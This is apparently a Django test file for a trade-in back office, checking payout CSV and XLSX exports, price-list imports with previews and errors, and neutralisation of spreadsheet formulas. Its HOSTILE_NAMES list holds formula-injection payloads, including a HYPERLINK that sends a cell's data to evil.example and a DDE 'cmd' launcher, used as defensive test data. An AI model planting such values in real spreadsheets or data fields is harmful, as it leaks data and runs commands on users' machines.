"""Payouts export for accounting; the price list imports from CSV with a preview and errors."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.helpers import staff_client
from workflows.models import ConditionDeduction, Payout, Product, State

HEADER = [
    "Trade-in",
    "Buyer",
    "Email",
    "Amount",
    "Currency",
    "Method",
    "Status",
    "Created",
    "Settled",
    "Settlement reference",
    "Order",
]


def export_csv(client, query: str = "") -> list[dict[str, str]]:
    response = client.post(
        reverse("admin:workflows_payout_export") + query, {"format": "0", "resource": "0"}
    )
    assert response.status_code == 200, response.content[:500]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    return rows


def test_it_exports_payouts_matching_the_database(make_trade_in, manager):
    make_trade_in(State.CLOSED)
    make_trade_in(State.ACCEPTED, payout_method="store_credit", buyer_name="O'Brien, Zoë")
    make_trade_in(State.REROUTED)
    rows = export_csv(staff_client(manager))
    assert list(rows[0].keys()) == HEADER
    by_ref = {row["Trade-in"]: row for row in rows}
    assert len(by_ref) == Payout.objects.count() == 3
    for payout in Payout.objects.select_related("trade_in"):
        row = by_ref[payout.trade_in.reference]
        assert Decimal(row["Amount"]) == payout.amount
        assert (row["Buyer"], row["Email"]) == (
            payout.trade_in.buyer_name,
            payout.trade_in.buyer_email,
        )
        assert (row["Currency"], row["Method"], row["Status"]) == (
            payout.currency,
            payout.method,
            payout.status,
        )
        assert row["Settlement reference"] == payout.settlement_reference
        assert row["Order"] == payout.trade_in.order.reference
        assert bool(row["Settled"]) == (payout.settled_at is not None)


def test_it_exports_only_the_filtered_payouts(make_trade_in, manager):
    make_trade_in(State.CLOSED)
    make_trade_in(State.ACCEPTED)
    rows = export_csv(staff_client(manager), "?status__exact=settled")
    assert [row["Status"] for row in rows] == ["settled"]


def test_the_export_does_not_query_per_row(make_trade_in, manager):
    client = staff_client(manager)
    make_trade_in(State.ACCEPTED)
    with CaptureQueriesContext(connection) as one:
        export_csv(client)
    for _ in range(5):
        make_trade_in(State.ACCEPTED)
    with CaptureQueriesContext(connection) as six:
        assert len(export_csv(client)) == 6
    assert len(six) == len(one)


def test_it_exports_xlsx(make_trade_in, manager):
    make_trade_in(State.ACCEPTED)
    response = staff_client(manager).post(
        reverse("admin:workflows_payout_export"), {"format": "1", "resource": "0"}
    )
    assert response.status_code == 200
    assert response.content[:2] == b"PK"  # a zip container: xlsx


def upload(client, name: str, content: str, confirm: bool = True):
    url = reverse(f"admin:workflows_{name}_import")
    response = client.post(
        url,
        {
            "resource": "0",
            "format": "0",
            "import_file": SimpleUploadedFile("prices.csv", content.encode(), "text/csv"),
        },
    )
    assert response.status_code == 200
    return response


def confirm(client, name: str, preview) -> None:
    form = preview.context["confirm_form"]
    client.post(reverse(f"admin:workflows_{name}_process_import"), form.initial)


def test_it_imports_base_prices_after_a_preview(product, manager):
    other = Product.objects.create(
        device_model=product.device_model, storage_gb=256, sku="SKU-256", base_price=Decimal("550")
    )
    client = staff_client(manager)
    preview = upload(client, "product", f"sku,base_price\n{product.sku},480.00\nSKU-256,600\n")
    assert "confirm_form" in preview.context and preview.context["result"].has_errors() is False
    assert Product.objects.get(pk=product.pk).base_price == Decimal("500.00")  # only a preview
    confirm(client, "product", preview)
    assert Product.objects.get(pk=product.pk).base_price == Decimal("480.00")
    assert Product.objects.get(pk=other.pk).base_price == Decimal("600.00")


def test_it_reports_bad_rows_and_imports_nothing(product, manager):
    client = staff_client(manager)
    preview = upload(
        client, "product", f"sku,base_price\n{product.sku},450\nNOPE-1,100\n{product.sku},-5\n"
    )
    page = preview.content.decode()
    assert "Unknown SKU" in page and "NOPE-1" in page
    assert "greater than or equal to 0" in page
    assert "confirm_form" not in preview.context or preview.context["confirm_form"] is None
    assert Product.objects.get(pk=product.pk).base_price == Decimal("500.00")
    assert Product.objects.count() == 1


def test_it_imports_condition_deductions(product, manager):
    client = staff_client(manager)
    preview = upload(
        client, "conditiondeduction", "question,answer,percent\nscreen,cracked,40\nbody,worn,9.5\n"
    )
    confirm(client, "conditiondeduction", preview)
    assert ConditionDeduction.objects.get(question="screen", answer="cracked").percent == 40
    bad = upload(client, "conditiondeduction", "question,answer,percent\nscreen,shiny,5\n")
    assert "Unknown answer" in bad.content.decode()


def test_the_streamed_csv_is_identical_to_import_exports_own(make_trade_in):
    from backoffice.resources import PayoutResource

    make_trade_in(State.CLOSED, buyer_name='O\'Brien, Zoë "Z"')
    make_trade_in(State.ACCEPTED, buyer_name="Ann O'Neil")
    make_trade_in(State.ACCEPTED, buyer_name="Bob")
    # A quote inside a bound parameter: PostgreSQL's COPY path inlines it safely.
    queryset = Payout.objects.filter(trade_in__order__buyer_name__contains="'")
    streamed = "".join(PayoutResource().stream_csv(queryset))
    stock = PayoutResource().export(queryset).csv
    assert sorted(csv.reader(io.StringIO(streamed))) == sorted(csv.reader(io.StringIO(stock)))
    assert len(list(csv.reader(io.StringIO(streamed)))) == 3  # header and the two O' rows


def test_the_streamed_csv_is_the_stock_export_in_the_same_order_in_pieces(make_trade_in):
    """Streamed in pieces of many rows (not one a row), ordered as the list is, with the
    timestamps (printed by PostgreSQL on the COPY path) as the stock export writes them."""
    from backoffice.resources import PayoutResource

    for name in ("Ann", "Bob", "Cy", "Di"):
        make_trade_in(State.CLOSED, buyer_name=name)
    queryset = Payout.objects.order_by("-trade_in__order__buyer_name")
    pieces = list(PayoutResource().stream_csv(queryset))
    assert len(pieces) == 2  # the header, then every row in one piece
    streamed = list(csv.reader(io.StringIO("".join(pieces))))
    assert streamed == list(csv.reader(io.StringIO(PayoutResource().export(queryset).csv)))
    assert [row[1] for row in streamed[1:]] == ["Di", "Cy", "Bob", "Ann"]
    if connection.vendor == "postgresql":  # the export's planner setting ended with it
        with connection.cursor() as cursor:
            cursor.execute("SHOW enable_sort")
            assert cursor.fetchone()[0] == "on"


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
]


def test_it_neutralises_formulas_in_the_csv_export(make_trade_in, manager):
    """Both CSV writers: COPY on PostgreSQL, the Python writer elsewhere."""
    stored = [make_trade_in(State.CLOSED, buyer_name=name).buyer_name for name in HOSTILE_NAMES]
    make_trade_in(State.ACCEPTED, buyer_name="Plain Name")
    rows = export_csv(staff_client(manager))
    buyers = sorted(row["Buyer"] for row in rows)
    assert buyers == sorted(["'" + name for name in stored] + ["Plain Name"])
    for row in rows:
        assert Decimal(row["Amount"]) > 0  # numbers are left alone


def test_the_xlsx_export_has_no_formula_cells_and_real_numbers_and_dates(make_trade_in, manager):
    from datetime import datetime

    import openpyxl

    for name in HOSTILE_NAMES:
        make_trade_in(State.CLOSED, buyer_name=name)
    response = staff_client(manager).post(
        reverse("admin:workflows_payout_export"), {"format": "1", "resource": "0"}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header == HEADER
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
        cells = dict(zip(header, row, strict=True))
        assert cells["Buyer"].value.startswith("'")
        assert cells["Amount"].data_type == "n" and cells["Amount"].value == 300
        assert isinstance(cells["Created"].value, datetime)
        assert isinstance(cells["Settled"].value, datetime)
    assert sum(cells_row[3].value for cells_row in rows) == 300 * len(HOSTILE_NAMES)


def test_the_price_list_exports_are_neutralised_too(product, manager):
    from backoffice.resources import ConditionDeductionResource, ProductPriceResource

    Product.objects.filter(pk=product.pk).update(sku="=1+2")
    import openpyxl

    client = staff_client(manager)
    url = reverse("admin:workflows_product_export")
    as_csv = client.post(url, {"format": "0", "resource": "0"}).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(as_csv)))[1][0] == "'=1+2"
    as_xlsx = client.post(url, {"format": "1", "resource": "0"}).content
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx)).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'=1+2", "s")
    assert ProductPriceResource().export().dict[0]["sku"] == "'=1+2"
    assert ConditionDeductionResource().export().headers == ["question", "answer", "percent"]
